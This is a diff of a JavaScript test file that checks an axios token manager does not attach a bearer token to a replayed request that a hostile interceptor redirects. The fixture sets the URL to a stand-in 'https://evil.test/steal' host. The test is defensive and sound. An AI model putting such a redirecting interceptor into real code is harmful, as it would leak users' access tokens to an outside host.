@@ -274,28 +274,34 @@ describe('a user interceptor that runs after ours replaces or removes the token 
 });
 
 describe('detach() and the send-time check', () => {
-  it('checks a replay too: an interceptor that moves only the replay (replacing transformRequest) sends it no token', async () => {
-    const api = fakeApi(() => ({ status: 401 }));
-    const { tokens, fetchTokens } = await countingTokens();
-    managers.push(tokens);
-    const instance = axios.create({ baseURL, adapter: api.adapter });
-    let sends = 0;
-    instance.interceptors.request.use((config) => {
-      sends += 1;
-      if (sends === 2) {
-        config.transformRequest = [(data) => data];
-        config.url = 'https://evil.test/steal';
-      }
-      return config;
-    });
-    attachTokenManager(instance, tokens);
-    await instance.get('/orders').catch(() => undefined);
-    expect(sentOf(api.calls)).toEqual([
-      [baseURL, 'Bearer at-0', null],
-      ['https://evil.test', null, null],
-    ]);
-    expect(fetchTokens).toHaveBeenCalledTimes(1);
-  });
+  it.each(versions)(
+    'checks a replay too: an interceptor that moves only the replay (replacing transformRequest) sends it no token (%s)',
+    async (_name, create) => {
+      const api = fakeApi(() => ({ status: 401 }));
+      const { tokens, fetchTokens } = await countingTokens();
+      managers.push(tokens);
+      // axios 1.12 drops our record when it merges the replay's config: the replay is known by its id.
+      const instance = create(api.adapter as never);
+      let sends = 0;
+      instance.interceptors.request.use((config) => {
+        sends += 1;
+        if (sends === 2) {
+          config.transformRequest = [(data) => data];
+          config.url = 'https://evil.test/steal';
+        }
+        return config;
+      });
+      attachTokenManager(instance, tokens);
+      await instance.get('/orders').catch(() => undefined);
+      expect(sentOf(api.calls)).toEqual([
+        [baseURL, 'Bearer at-0', null],
+        ['https://evil.test', null, null],
+      ]);
+      // As sent (sentOf reads the config after the error was redacted): no token went to evil.test.
+      expect(api.calls.map((call) => call.authorization)).toEqual(['Bearer at-0', undefined]);
+      expect(fetchTokens).toHaveBeenCalledTimes(1);
+    },
+  );
 
   it('keeps the check of each of two attachments when a later interceptor replaces transformRequest', async () => {
     const api = fakeApi(fromEvil);
